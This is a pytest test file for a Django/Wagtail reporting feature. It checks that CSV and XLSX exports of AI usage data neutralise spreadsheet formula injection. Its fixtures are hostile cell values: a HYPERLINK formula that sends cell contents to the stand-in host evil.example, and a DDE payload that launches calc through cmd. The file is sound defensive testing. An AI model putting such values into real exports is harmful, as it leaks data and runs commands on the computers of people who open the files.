"""CSV exports cannot carry spreadsheet formulas (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.reports.conftest import DAY1
from wagtail_ai_blocks.reports.exports import neutralise

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Open")'


def export(client, fmt: str, **params):
    response = client.get(reverse("wagtail_ai_blocks_reports:usage"), {"export": fmt, **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_cells(client, **params) -> list[list[str]]:
    return list(csv.reader(io.StringIO(export(client, "csv", **params).decode())))


def xlsx_cells(client, **params) -> list[tuple]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(client, "xlsx", **params))).active
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann = Lee", "Ann = Lee"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_starts_like_a_formula_is_quoted(value, written):
    assert neutralise(value) == written


@pytest.fixture
def hostile_ledger(record, make_user, make_prompt_for_report):
    """A user named like a formula, a model and a library prompt label the same."""
    named = make_user("mallory", first_name=EVIL)
    odd_username = make_user("@mallory")
    prompt = make_prompt_for_report(label="+cmd|' /C calc'!A0")
    record(named, DAY1, model="-2+3", cost="0.000010")
    record(odd_username, DAY1, action=prompt.action_id, model="\tgpt", cost="0.000020")
    return prompt


@pytest.mark.parametrize("group", ["user", "model", "action"])
def test_grouped_csv_quotes_names_models_and_prompt_labels(admin_client, hostile_ledger, group):
    labels = [row[0] for row in csv_cells(admin_client, group=group)[1:]]

    expected = {
        "user": {"'" + EVIL, "'@mallory"},
        "model": {"'-2+3", "'\tgpt"},
        "action": {"Improve writing", "'+cmd|' /C calc'!A0"},
    }[group]
    assert set(labels) == expected
    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in labels)


def test_call_by_call_csv_quotes_every_text_cell_and_keeps_numbers(admin_client, hostile_ledger):
    rows = csv_cells(admin_client, group="call")
    heading, rows = rows[0], {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}

    assert rows["mallory"]["Model"] == "'-2+3"
    assert rows["'@mallory"]["Model"] == "'\tgpt"
    assert rows["'@mallory"]["Action"] == "'+cmd|' /C calc'!A0"
    assert rows["mallory"]["Cost"] == "0.000010"  # an amount, not text
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert heading[0] == "When"


def test_xlsx_keeps_the_names_exactly_as_text(admin_client, hostile_ledger):
    rows = xlsx_cells(admin_client, group="user")

    assert {row[0] for row in rows[1:]} == {EVIL, "@mallory"}
    assert rows[1][1] == 1  # numbers stay numbers
